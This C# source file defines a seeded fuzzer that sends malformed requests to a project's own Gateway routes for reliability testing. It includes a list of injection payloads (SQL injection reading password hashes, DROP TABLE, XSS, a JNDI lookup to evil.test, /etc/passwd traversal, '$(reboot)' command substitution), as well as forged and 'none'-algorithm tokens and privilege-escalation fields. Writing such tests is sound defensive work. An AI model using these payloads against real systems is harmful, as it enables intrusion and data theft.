using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;

namespace FlexWhere.Reliability.Tests.Stack;

/// <summary>A public route through the Gateway: method, path template ({id} is filled in), who may
/// call it, and a well-formed body the generator spoils (null: the route takes no JSON body).</summary>
public sealed record PublicRoute(HttpMethod Method, string Template, RouteCaller Caller, Func<JsonObject>? Body = null,
    string? ContentType = null);

public enum RouteCaller { Anonymous, User, Admin }

/// <summary>One generated request, described well enough to reproduce a failure.</summary>
public sealed record BadRequest(string Kind, HttpMethod Method, string Path, string? Token, byte[]? Body, string? ContentType)
{
    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(Method, Path);
        if (Token is not null) message.Headers.TryAddWithoutValidation("Authorization", Token);
        if (Body is not null)
        {
            message.Content = new ByteArrayContent(Body);
            // A body over the Gateway's limit is refused before it is read; without this the client
            // would still be writing it when the Gateway answers 413 and closes the connection.
            if (Body.Length > 64 * 1024) message.Headers.ExpectContinue = true;
            if (ContentType is not null) message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
        }

        return message;
    }

    public override string ToString()
    {
        var body = Body is null ? "" : Encoding.UTF8.GetString(Body.AsSpan(0, Math.Min(Body.Length, 160)));
        return $"[{Kind}] {Method} {Path} ({ContentType}, {Body?.Length ?? 0} bytes) {body}";
    }
}

/// <summary>
/// Generates malformed requests against every public route: wrong types, missing and extra fields,
/// huge bodies, deep JSON, invalid UTF-8, injection strings, odd phone formats, bad and expired
/// tokens, bad ids, wrong content types. Seeded, so a failure can be replayed.
/// </summary>
public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute> routes, BadRequestGenerator.Identities identities)
{
    /// <summary>The tokens and ids the generator may use; the valid ones get requests past the authentication layer.</summary>
    public sealed record Identities(string UserToken, string AdminToken, string ForgedToken, string ExpiredToken, Guid OwnUserId,
        Guid SacrificialUserId, Guid OtherOrganisationUserId);

    public static readonly string[] Injections =
    [
        "' OR '1'='1' --", "\"; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://evil.test/a}",
        "../../../../etc/passwd", "%00", "\u0000", "{{7*7}}", "$(reboot)", "`id`", "\\u0000\\n",
            "admin@demo.flexwhere.test\r\nX-Injected: 1",
        "𝓯𝓵𝓮𝔁", "\u202Eevil", "' UNION SELECT \"PasswordHash\" FROM users --", "*)(uid=*))(|(uid=*", "null", "undefined", "NaN",
    ];

    public static readonly string[] OddPhones =
    [
        "", "+", "++31612345678", "0031612345678", "+31 (0)6-1234 5678", "+999999999999999999999", "٠٦١٢٣٤٥٦٧٨",
            "+31612345678;ext=1",
        "+31612345678\u0000", "tel:+31612345678", "+1-800-FLOWERS", "📞", "+3161234567890123456789", "-31612345678", "+0612345678",
            "612345678",
        "+31 6 •••• ••78", "+44 7700 900000", "+882 123456789",
    ];

    private static readonly string[] WrongTokens =
    [
        "Bearer", "Bearer ", "Bearer garbage", "Basic YWRtaW46YWRtaW4=", "bearer x.y.z", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
        "Bearer " + new string('A', 20_000),
    ];

    public BadRequest Next()
    {
        var route = routes[random.Next(routes.Count)];
        var (kind, token) = PickToken(route);
        var path = route.Template.Replace("{id}", PickId(route, ref kind), StringComparison.Ordinal);
        if (route.Body is null)
        {
            return random.Next(3) == 0
                ? new BadRequest($"{kind}+unexpected-body", route.Method, path, token,
                    Encoding.UTF8.GetBytes(Injections[random.Next(Injections.Length)]), "application/json")
                : new BadRequest(kind, route.Method, path, token, null, null);
        }

        var (bodyKind, body, contentType) = SpoilBody(route);
        return new BadRequest($"{kind}+{bodyKind}", route.Method, path, token, body, contentType);
    }

    private (string Kind, string? Token) PickToken(PublicRoute route)
    {
        // Mostly a valid caller, so most requests reach the service's own validation.
        var roll = random.Next(10);
        if (route.Caller == RouteCaller.Anonymous || roll < 6)
        {
            var valid = route.Caller == RouteCaller.Admin ? identities.AdminToken : route.Caller == RouteCaller.User ? identities.UserToken
                : null;
            return ("valid-caller", valid is null ? null : $"Bearer {valid}");
        }

        return roll switch
        {
            6 => ("no-token", null),
            7 => ("forged-token", $"Bearer {identities.ForgedToken}"),
            8 => ("expired-token", $"Bearer {identities.ExpiredToken}"),
            _ => ("wrong-token", WrongTokens[random.Next(WrongTokens.Length)]),
        };
    }

    private string PickId(PublicRoute route, ref string kind)
    {
        if (!route.Template.Contains("{id}", StringComparison.Ordinal)) return "";
        string[] ids =
        [
            Guid.NewGuid().ToString(), identities.OtherOrganisationUserId.ToString(), identities.SacrificialUserId.ToString(), "not-a-guid",
                "0",
            "%2e%2e%2f%2e%2e%2fhealth", Uri.EscapeDataString(Injections[random.Next(Injections.Length)]), new string('9', 3000),
                "00000000-0000-0000-0000-000000000000",
        ];
        var index = random.Next(ids.Length);
        kind += $"+id{index}";
        return ids[index];
    }

    private (string Kind, byte[] Body, string? ContentType) SpoilBody(PublicRoute route)
    {
        var json = route.Body!();
        var keys = json.Select(pair => pair.Key).ToArray();
        var contentType = route.ContentType ?? "application/json";
        switch (random.Next(12))
        {
            case 0: // a field of the wrong type
            {
                var key = keys[random.Next(keys.Length)];
                json[key] = WrongTypeValue();
                return ("wrong-type", Bytes(json), contentType);
            }
            case 1: // fields missing
            {
                foreach (var key in keys.Where(_ => random.Next(2) == 0)) json.Remove(key);
                if (json.Count == keys.Length && keys.Length > 0) json.Remove(keys[0]);
                return ("missing-fields", Bytes(json), contentType);
            }
            case 2: // extra fields, and one field spoiled so the request stays refused
            {
                json["isAdmin"] = true;
                json["organisationId"] = identities.OtherOrganisationUserId.ToString();
                json["__proto__"] = new JsonObject { ["polluted"] = true };
                if (keys.Length > 0) json[keys[random.Next(keys.Length)]] = WrongTypeValue();
                return ("extra-fields", Bytes(json), contentType);
            }
            case 3: // a huge body
            {
                var key = keys.Length > 0 ? keys[0] : "x";
                var value = new string('x', random.Next(70_000, 3_000_000));
                return ("huge-body", Encoding.UTF8.GetBytes($"{{\"{key}\":\"{value}\"}}"), contentType);
            }
            case 4: // deep JSON
            {
                var depth = random.Next(65, 20_000);
                var deep = random.Next(2) == 0
                    ? new string('[', depth) + new string(']', depth)
                    : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
                return ("deep-json", Encoding.UTF8.GetBytes(deep), contentType);
            }
            case 5: // invalid UTF-8
            {
                var spoiled = Bytes(json).ToList();
                spoiled.InsertRange(Math.Min(spoiled.Count, random.Next(1, 12)), [0xC3, 0x28, 0xFF, 0xFE, 0xED, 0xA0, 0x80]);
                return ("invalid-utf8", [.. spoiled], contentType);
            }
            case 6: // injection strings in every string field
            {
                foreach (var key in keys.Where(key => json[key] is JsonValue value
                    && value.GetValueKind() == System.Text.Json.JsonValueKind.String))
                {
                    json[key] = Injections[random.Next(Injections.Length)];
                }

                if (keys.Length > 0) json[keys[random.Next(keys.Length)]] = Injections[random.Next(Injections.Length)];
                return ("injection", Bytes(json), contentType);
            }
            case 7: // odd phone numbers wherever a phone could go
            {
                var key = keys.FirstOrDefault(key => key.Contains("phone", StringComparison.OrdinalIgnoreCase))
                    ?? (keys.Length > 0 ? keys[random.Next(keys.Length)] : "phone");
                json[key] = OddPhones[random.Next(OddPhones.Length)];
                return ("odd-phone", Bytes(json), contentType);
            }
            case 8: // not JSON at all
                return ("not-json", Encoding.UTF8.GetBytes(random.Next(2) == 0 ? "email=a&password=b" : "{\"unterminated\": \"x"),
                    contentType);
            case 9: // the wrong content type
                return ("wrong-content-type", Bytes(json),
                    random.Next(3) switch { 0 => "text/plain", 1 => "application/x-www-form-urlencoded", _ => "application/xml" });
            case 10: // JSON of the wrong shape
                return ("wrong-shape", Encoding.UTF8.GetBytes(random.Next(3) switch { 0 => "[]", 1 => "\"just a string\"", _ => "12345" }),
                    contentType);
            default: // empty body
                return ("empty-body", [], contentType);
        }
    }

    private JsonNode? WrongTypeValue() => random.Next(6) switch
    {
        0 => JsonValue.Create(random.Next()),
        1 => JsonValue.Create(random.Next(2) == 0),
        2 => new JsonArray(1, "two", null),
        3 => new JsonObject { ["nested"] = "object" },
        4 => JsonValue.Create(1e308),
        _ => null,
    };

    private static byte[] Bytes(JsonObject json) => Encoding.UTF8.GetBytes(json.ToJsonString());
}
